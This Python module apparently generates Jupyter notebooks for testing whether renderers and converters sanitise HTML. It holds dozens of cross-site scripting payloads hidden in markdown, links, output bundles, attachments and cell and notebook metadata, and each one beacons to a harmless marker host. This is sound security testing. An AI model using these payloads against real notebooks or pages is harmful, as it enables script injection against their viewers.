"""Notebooks whose pages try to run scripts in the browser.

Each vector asks for `http://marker.invalid/<its name>` when it runs, or when it is loaded.
"""

import base64

from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell


def run(name: str) -> str:
    """Return JavaScript that leaves a mark."""
    return f"new/**/Image().src='http://marker.invalid/{name}'"


def svg(name: str) -> str:
    return f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run(name)}"><g/></svg>'


def encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def page(name: str) -> str:
    return "data:text/html;base64," + encoded(f"<script>{run(name)}</script>")


#: So much later, the vectors before it have had their chance.
REFRESH_SECONDS = 5
PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJg"
    "gg=="
)
#: Markdown, by name.
MARKDOWN = {
    "md-script": f"<script>{run('md-script')}</script>",
    "md-onerror": f'<img src="x:" onerror="{run("md-onerror")}">',
    "md-onerror-unclosed": f'<img src="x:" onerror="{run("md-onerror-unclosed")}" ',
    "md-svg": svg("md-svg"),
    "md-svg-animate": "<svg><animate attributeName=x dur=1s "
    f'onbegin="{run("md-svg-animate")}"/></svg>',
    "md-iframe": f'<iframe src="{page("md-iframe")}"></iframe>',
    "md-srcdoc": f'<iframe srcdoc="<script>{run("md-srcdoc").replace(chr(39), "&quot;")}'
    '</script>"></iframe>',
    "md-details": f'<details open ontoggle="{run("md-details")}">x</details>',
    "md-style": f'<style onload="{run("md-style")}"></style>',
    "md-import": "<style>@import 'http://marker.invalid/md-import';</style>",
    "md-link-tag": '<link rel="stylesheet" href="http://marker.invalid/md-link-tag">',
    "md-picture": "![pixel](http://marker.invalid/md-picture)",
    "md-background": '<p style="background: url(http://marker.invalid/md-background)">x</p>',
    "md-focus": f'<input autofocus onfocus="{run("md-focus")}">',
    "md-audio": f'<audio src="x:" onerror="{run("md-audio")}"></audio>',
    "md-math": f'$$</p><img src="x:" onerror="{run("md-math")}">$$\n\n'
    f'\\begin{{x}}<img src="x:" onerror="{run("md-math")}">\\end{{x}}',
    "md-code-language": f'```"><img src=x: onerror="{run("md-code-language")}">\nx\n```',
    "md-twice": f'\\<img src=x: onerror="{run("md-twice")}"\\>',
    "md-noscript": '<noscript><p title="</noscript><img src=x: '
    f'onerror={run("md-noscript")}>"></noscript>',
    "md-mutation": "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=x: onerror={run("md-mutation")}&gt;">',
    "md-mermaid": f'```mermaid\n"><img src="x:" onerror="{run("md-mermaid")}">\n```',
    "md-refresh": f'<meta http-equiv="refresh" content="{REFRESH_SECONDS};'
    'url=http://marker.invalid/md-refresh">',
}
#: Links; a reader has to follow them.
LINKS = {
    "link-markdown": f"[link-markdown](javascript:void({run('link-markdown')}))",
    "link-html": f'<a href="javascript:void({run("link-html")})">link-html</a>',
    "link-spaced": f'<a href=" java&#10;script:void({run("link-spaced")})">link-spaced</a>',
}
#: MIME bundles of outputs, with their metadata.
OUTPUTS = {
    "out-html": ({"text/html": f"<script>{run('out-html')}</script>"}, {}),
    "out-onerror": ({"text/html": f'<img src="x:" onerror="{run("out-onerror")}">'}, {}),
    "out-javascript": ({"application/javascript": run("out-javascript")}, {}),
    "out-svg": ({"image/svg+xml": svg("out-svg")}, {}),
    "out-svg-breakout": (
        {"image/svg+xml": f"<svg></svg><script>{run('out-svg-breakout')}</script>"},
        {},
    ),
    "out-markdown": ({"text/markdown": f'<img src="x:" onerror="{run("out-markdown")}">'}, {}),
    "out-latex": ({"text/latex": f'$$<img src="x:" onerror="{run("out-latex")}">$$'}, {}),
    "out-isolated": (
        {"text/html": f"<script>{run('out-isolated')}</script>"},
        {"text/html": {"isolated": True}},
    ),
    "out-picture": ({"image/png": f'"><img src="x:" onerror="{run("out-picture")}">'}, {}),
    "out-width": ({"image/png": PIXEL}, {"image/png": {"width": f"1 onload={run('out-width')}"}}),
    "out-alt": ({"image/png": PIXEL}, {"image/png": {"alt": f'"onload="{run("out-alt")}'}}),
    "out-filename": (
        {"image/png": PIXEL},
        {"filenames": {"image/png": "http://marker.invalid/out-filename"}},
    ),
    "out-widget": (
        {
            "application/vnd.jupyter.widget-view+json": {
                "model_id": f"</script><script>{run('out-widget')}</script>",
                "version_major": 2,
            }
        },
        {},
    ),
    "out-vega": (
        {
            "application/vnd.vega.v5+json": {"signals": [{"update": run("out-vega")}]},
            "text/html": f"<div></div><script type=module>{run('out-vega')}</script>",
        },
        {},
    ),
    "out-plotly": (
        {
            "application/vnd.plotly.v1+json": {"data": []},
            "text/html": "<script>window.PlotlyConfig = {};</script>"
            "<script src='http://marker.invalid/out-plotly'></script>",
        },
        {},
    ),
    "out-plain": ({"text/plain": f'<img src="x:" onerror="{run("out-plain")}">'}, {}),
}
#: A reference to a missing attachment.
LOST = "![lost](attachment:lost.png)"
PRINTED = {
    "out-stream": "print({!r})".format(f"<script>{run('out-stream')}</script>"),
    "out-colours": "print({!r})".format(f'\x1b[38;2;1;1;1"><script>{run("out-colours")}</script>m'),
    "out-error": "raise Exception({!r})".format(f"<script>{run('out-error')}</script>"),
}


def cells() -> list:
    """Return cells with all attack vectors, for the end of a notebook."""
    found = [new_markdown_cell(text) for text in (*MARKDOWN.values(), *LINKS.values())]
    found += [
        new_code_cell(
            "from IPython.display import display\n"
            f"display({data!r}, metadata={metadata!r}, raw=True)"
        )
        for data, metadata in OUTPUTS.values()
    ]
    found += [new_code_cell(code) for code in PRINTED.values()]
    attached = new_markdown_cell(f"![x](attachment:x.svg) {LOST}")
    attached.attachments = {"x.svg": {"image/svg+xml": encoded(svg("attached"))}}
    attached.attachments['"><script>'] = {"text/html": f"<script>{run('attached')}</script>"}
    raw = new_raw_cell(f"<script>{run('raw')}</script>", metadata={"raw_mimetype": "text/html"})
    tagged = new_markdown_cell("tagged")
    breakout = f'"><script>{run("tagged")}</script>'
    tagged.metadata = {"tags": [breakout], "name": breakout, "title": breakout}
    named = new_code_cell("1 + 1")
    named.metadata["nbgrader"] = {
        "grade_id": f'"><script>{run("named")}</script>',
        "grade": False,
        "solution": False,
        "locked": False,
        "task": False,
        "schema_version": 3,
    }
    return [*found, attached, raw, tagged, named]


def spoil_metadata(notebook) -> None:
    """Add attack vectors to the parts of a notebook that templates print."""
    breakout = f"</title><script>{run('metadata')}</script>"
    notebook.metadata["title"] = breakout
    notebook.metadata["language_info"] = {
        "name": f'x"><script>{run("language")}</script>',
        "pygments_lexer": f'x"><script>{run("language")}</script>',
    }
    notebook.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": {}, "x": breakout}
    }
